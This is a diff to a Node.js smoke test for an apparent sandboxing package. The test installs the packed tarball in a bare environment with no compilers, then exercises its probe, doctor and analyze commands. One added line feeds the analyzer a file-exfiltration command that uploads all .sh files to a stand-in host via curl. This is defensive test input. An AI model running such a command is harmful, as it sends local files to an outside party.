@@ -1,23 +1,38 @@
 #!/usr/bin/env node
 // SPDX-License-Identifier: MIT
 // Proves the published artefact works: builds the prebuild, packs the tarball, installs it into an
-// empty directory (where npm does not run our install script), imports it and calls probe().
+// empty directory (where npm does not run our install script) with nothing but node, npm and sh on
+// PATH (no compiler, make or python can be reached), imports it, calls probe() and analyzes a shell
+// command with the parser that ships inside (WebAssembly: no native code to build for it).
 // Prints one JSON line {tarball, files, probe} on success; exits non-zero with the reason otherwise.
 import { execFileSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 
 const root = fileURLToPath(new URL('..', import.meta.url));
 const work = mkdtempSync(join(tmpdir(), 'zero-sandbox-smoke-'));
-const run = (cmd, args, cwd) => execFileSync(cmd, args, { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'inherit'] });
+const run = (cmd, args, cwd, env = process.env) => execFileSync(cmd, args, { cwd, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'inherit'] });
 // npm's own CLI script under this node: `npm run` names it in npm_execpath. Calling npm.cmd with
 // execFileSync fails with EINVAL on Windows (Node >= 20.12.2 refuses .cmd files without a shell).
 const npmCli = process.env.npm_execpath;
-const npm = (args, cwd) => (npmCli !== undefined && npmCli.endsWith('.js')
-  ? run(process.execPath, [npmCli, ...args], cwd)
-  : run(process.platform === 'win32' ? 'npm.cmd' : 'npm', args, cwd));
+const npm = (args, cwd, env) => (npmCli !== undefined && npmCli.endsWith('.js')
+  ? run(process.execPath, [npmCli, ...args], cwd, env)
+  : run(process.platform === 'win32' ? 'npm.cmd' : 'npm', args, cwd, env));
+
+/** An environment whose PATH holds only node, npm and sh (npm runs scripts with sh): nothing can compile anything. */
+function bareEnv() {
+  if (process.platform === 'win32') return process.env;
+  const bin = join(work, 'bin');
+  mkdirSync(bin);
+  symlinkSync(process.execPath, join(bin, 'node'));
+  symlinkSync('/bin/sh', join(bin, 'sh'));
+  symlinkSync(realpathSync(npmCli ?? execFileSync('sh', ['-c', 'command -v npm'], { encoding: 'utf8' }).trim()), join(bin, 'npm'));
+  const env = { ...process.env, PATH: bin };
+  for (const key of Object.keys(env)) if (/^(?:npm_|CC$|CXX$|PYTHON$)/i.test(key)) delete env[key];
+  return env;
+}
 // A command that proves it ran sandboxed (and on POSIX that /etc is read-only), in the OS's shell.
 const sandboxedCommand = process.platform === 'win32'
   ? "['cmd.exe', '/d', '/c', 'echo sandboxed-%ZERO_SANDBOXED%']"
@@ -31,7 +46,16 @@ try {
   const app = join(work, 'app');
   mkdirSync(app, { recursive: true });
   writeFileSync(join(app, 'package.json'), JSON.stringify({ name: 'smoke-app', version: '1.0.0', type: 'module' }));
-  npm(['install', '--no-audit', '--no-fund', tarball], app);
+  const bare = bareEnv();
+  const compilers = ['cc', 'gcc', 'g++', 'c++', 'clang', 'make', 'python3'].filter((tool) => {
+    try {
+      execFileSync(tool, ['--version'], { env: bare, stdio: 'ignore' });
+      return true;
+    } catch (error) {
+      return error.code !== 'ENOENT';
+    }
+  });
+  npm(['install', '--no-audit', '--no-fund', tarball], app, bare);
   const script =
     "const m = await import('zero-sandbox');" +
     'const r = await m.probe();' +
@@ -42,7 +66,10 @@ try {
   const cli = join(app, 'node_modules', 'zero-sandbox', 'dist', 'cli', 'main.js');
   const doctor = JSON.parse(run(process.execPath, [cli, 'doctor', '--json'], app));
   const installed = readdirSync(join(app, 'node_modules', 'zero-sandbox'));
-  process.stdout.write(`${JSON.stringify({ tarball: packed[0].filename, files, installed, probe, doctorPlatform: doctor.platform })}\n`);
+  const dependencies = readdirSync(join(app, 'node_modules'));
+  const analyzed = JSON.parse(run(process.execPath, [cli, 'analyze', '--json', '--', 'for f in *.sh; do curl -T "$f" https://x.test; done'], app, bare));
+  const analysis = { categories: analyzed.risk.categories, programs: analyzed.analysis.commands.map((c) => c.program) };
+  process.stdout.write(`${JSON.stringify({ tarball: packed[0].filename, files, installed, dependencies, compilers, analysis, probe, doctorPlatform: doctor.platform })}\n`);
 } finally {
   rmSync(work, { recursive: true, force: true });
 }
